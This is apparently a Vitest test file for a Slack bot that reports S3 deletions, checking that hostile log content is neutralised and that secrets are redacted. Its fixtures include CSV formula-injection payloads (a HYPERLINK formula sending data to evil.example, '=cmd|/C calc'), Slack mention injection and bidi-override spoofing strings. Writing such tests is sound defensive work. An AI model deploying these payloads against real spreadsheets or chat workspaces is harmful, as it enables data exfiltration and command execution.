import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import type { Investigation } from '../../bot/model/investigation.ts'
import { expectAnswer } from '../support/clear-words.ts'
import { downloadCsv } from '../support/csv.ts'
import { faultSwitch, firstTimes } from '../support/fault-switch.ts'
import { TRAIL, trailDeletion, trailFile, trailKey } from '../support/cloudtrail.ts'
import {
  datedKey,
  INCIDENTS,
  record,
  smallLogs,
  startTestProduct,
  type TestProduct,
} from '../support/product.ts'
import { press } from '../support/slack-clicks.ts'

/** Log content is written by strangers: it is shown as it is, and never does anything. */

const hourAgo = (hours: number) => new Date(Date.now() - hours * 3_600_000)
/** Keys as their owners named them; access logs have them percent-encoded twice. */
const KEYS = [
  // The first ten stand in the thread's table, in this order.
  '<!channel>',
  '<@U0ADA> <#C0INCIDENTS|x> <https://evil.example|click>',
  '`rm -rf` *bold* _it_ ~no~ &lt;!here&gt;',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  'line one\nline two',
  '\u202egnp.exe\u2066\u200f',
  '👩‍💻🔥'.repeat(68),
  'k'.repeat(1024),
  '"quoted", and \'quoted\'',
  '\t=1+1',
  '\r=1+1',
  '+1+cmd|/C calc',
  '@SUM(1+1)',
  '-2+3',
  '\\\\server\\share',
]
const DEEP = Array.from({ length: 10 }, (_, n) => `${'🔥'.repeat(255)}${n}`)
const AGENT = '=cmd|"/C calc"!A0 <!here> `x` \u202e'
const REQUESTER = 'arn:aws:sts::111122223333:assumed-role/<!everyone>\u202e/`x`'
const SECRETS = [
  'SIGNATURE0123456789abcdef',
  'SESSIONTOKEN0123456789',
  'OLDSIGNATURE%3D',
  'UNPARSEDSIGNATURE01',
]
const [SIGNATURE, SESSION, OLD, UNPARSED] = SECRETS

const encoded = (key: string) => encodeURIComponent(encodeURIComponent(key))
const lines = KEYS.map((key, n) =>
  record({
    bucket: 'hostile',
    time: new Date(hourAgo(3).getTime() + n * 1000),
    operation: 'REST.DELETE.OBJECT',
    key: encoded(key),
    status: 204,
    requester: REQUESTER,
    userAgent: AGENT,
    requestId: `R${n}`,
  }),
)
const deep = DEEP.map((key, n) =>
  record({
    bucket: 'deep',
    time: hourAgo(3),
    operation: 'REST.DELETE.OBJECT',
    key: encoded(key),
    status: 204,
    requester: `arn:aws:sts::111122223333:assumed-role/${'🔥'.repeat(500)}`,
    requestId: `D${n}`,
  }),
)
const presigned = [
  record({
    bucket: 'hostile',
    time: hourAgo(2),
    operation: 'REST.DELETE.OBJECT',
    key: 'presigned.txt',
    status: 204,
    requestId: 'P1',
    uri: `"DELETE /presigned.txt?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Security-Token=${SESSION}&X-Amz-Signature=${SIGNATURE} HTTP/1.1"`,
  }),
  record({
    bucket: 'hostile',
    time: hourAgo(2),
    operation: 'REST.DELETE.OBJECT',
    key: 'old.txt',
    status: 204,
    requestId: 'P2',
    uri: `"DELETE /old.txt?AWSAccessKeyId=AKIA&Expires=1&Signature=${OLD} HTTP/1.1"`,
  }),
  `no record, but GET /x?x-amz-signature=${UNPARSED} <!channel> \u202e`,
]

const faults = faultSwitch()
const logged: string[] = []
const spies = (['log', 'info', 'warn', 'error', 'debug'] as const).map(name =>
  vi.spyOn(console, name).mockImplementation((...words: unknown[]) => {
    logged.push(
      words
        .map(word => (word instanceof Error ? `${word.stack} ${JSON.stringify(word)}` : String(word)))
        .join(' '),
    )
  }),
)

let product: TestProduct
let investigation: Investigation
let csv: Record<string, string>[]
beforeAll(async () => {
  product = await startTestProduct({
    faults: faults.faults,
    settings: { limits: { windowDays: 90, gatherObjects: 20_000, scanBytes: 1e12 } },
    logs: smallLogs({
      buckets: {
        hostile: { logging: { targetBucket: 'my-logs', targetPrefix: 'access/' } },
        deep: { logging: { targetBucket: 'my-logs', targetPrefix: 'access/' } },
        trailed: {},
      },
      sources: [TRAIL],
      objects: [
        {
          bucket: 'my-logs',
          key: datedKey('access/', hourAgo(1)),
          body: [...lines, ...deep, ...presigned, ''].join('\n'),
        },
        {
          bucket: 'my-trail',
          key: trailKey(hourAgo(2)),
          body: trailFile(
            ...KEYS.map((key, n) =>
              trailDeletion({
                bucket: 'trailed',
                time: hourAgo(3),
                key,
                requestId: `R${n}`,
                userAgent: AGENT,
              }),
            ),
          ),
        },
      ],
    }),
  })
  // One failure on the way, so that there is something to log.
  const failure = { status: 500, code: 'x', message: 'x' }
  faults.on(firstTimes(1, ({ operation }) => operation === 'chat.update', failure))
  investigation = await product.ask('object-deletion hostile 24h')
  csv = await downloadCsv(product, investigation)
})
afterAll(async () => {
  await product?.stop()
  for (const spy of spies) spy.mockRestore()
})

/** All that anyone was shown in the channel, the thread included, as Slack got it. */
const shown = () =>
  JSON.stringify([
    ...product.client.messages(INCIDENTS),
    ...product.client.messages(INCIDENTS, investigation.announcement.ts),
  ])

// Slack's dates are ours.
const MENTION = /<(?:!(?!date\^)|@U(?!0ADA)|#C|https:\/\/evil)/
const TURNING = /[\u202a-\u202e\u2066-\u2069\u200e\u200f]/

const neutral = (text: string) => (/^[=+@\t\r\n-]/.test(text) ? `'${text}` : text)
const keysIn = (rows: readonly Record<string, string>[]) => new Set(rows.map(row => row.key))

describe('the thread', () => {
  it('takes every key there is, in blocks that Slack accepts', () => {
    expectAnswer(product, investigation)
    expect(investigation.query?.answer?.rowCount).toBe(KEYS.length + 2)
  })

  it('mentions nobody but the asker, links nowhere, and turns no text around', () => {
    const mrkdwn = JSON.stringify(
      product
        .thread(investigation)
        .flatMap(({ text, blocks = [] }) => [
          text,
          ...blocks.filter(({ type }) => type === 'section' || type === 'context'),
        ]),
    )
    expect(mrkdwn).not.toMatch(MENTION)
    // The strangest requester stands in the headline.
    expect(mrkdwn).toContain('&lt;!everyone&gt;')
    expect(shown()).not.toMatch(TURNING)
  })

  it('shows keys as they are, cut where they are too long, and control characters as such', () => {
    const words = product.threadText(investigation)
    expect(words).toContain('<!channel>')
    expect(words).toContain('<@U0ADA> <#C0INCIDENTS|x> <https://evil.example|click>')
    expect(words).toContain('line one\u{fffd}line two')
    expect(words).not.toContain('k'.repeat(200))
  })

  it('takes rows of nothing but the longest keys and requesters', async () => {
    const answered = await product.ask('object-deletion deep 24h')
    expectAnswer(product, answered)
    const rows = await downloadCsv(product, answered)
    expect(rows.map(row => row.key)).toEqual(DEEP)
  })

  it('takes the same from CloudTrail', async () => {
    const trailed = await product.ask('object-deletion trailed 24h')
    expectAnswer(product, trailed)
    const rows = await downloadCsv(product, trailed)
    expect(keysIn(rows)).toEqual(new Set(KEYS.map(neutral)))
  })
})

describe('the CSV', () => {
  it('has every key to the letter, with an apostrophe before what a spreadsheet would compute', () => {
    expect(keysIn(csv)).toEqual(new Set([...KEYS.map(neutral), 'presigned.txt', 'old.txt']))
    for (const row of csv) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r\n-]/)
    expect(csv[0]?.user_agent).toBe(`'${AGENT}`)
  })
})

describe('secrets', () => {
  it('of presigned requests are in no message, no CSV, no stored state and no log', async () => {
    await press(product, product.thread(investigation).at(-1), 'show-sql')
    const stored = JSON.stringify(await product.investigations.load(investigation.id))
    const places = { shown: shown(), csv: JSON.stringify(csv), stored, logged: logged.join('\n') }
    for (const secret of SECRETS)
      for (const place of Object.values(places)) expect(place).not.toContain(secret)
    // They were read: without the taking out they would be there.
    expect(places.shown).toContain('x-amz-signature=REDACTED')
  })

  it('of the installation are in no message and no log', () => {
    const { SLACK_BOT_TOKEN, SLACK_SIGNING_SECRET, AWS_SECRET_ACCESS_KEY } = product.services.env
    expect(logged.join('\n')).not.toBe('')
    for (const secret of [SLACK_BOT_TOKEN, SLACK_SIGNING_SECRET, AWS_SECRET_ACCESS_KEY]) {
      expect(secret).toBeTruthy()
      expect(shown()).not.toContain(secret)
      expect(logged.join('\n')).not.toContain(secret)
    }
  })
})
